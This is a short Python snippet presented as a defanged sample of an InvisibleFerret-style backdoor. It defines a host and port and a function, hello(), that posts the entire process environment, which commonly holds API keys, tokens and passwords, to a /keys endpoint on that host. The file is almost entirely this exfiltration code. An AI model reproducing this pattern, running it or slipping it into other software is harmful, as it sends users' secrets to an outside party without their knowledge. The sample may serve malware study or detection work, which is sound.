# InvisibleFerret-style backdoor config (defanged): host and port apart,
# the environment posted whole.
import os
import requests

HOST = '203.0.113.77'
PORT = 8637

def hello():
    requests.post(f'http://{HOST}:{PORT}/keys', json=dict(os.environ))
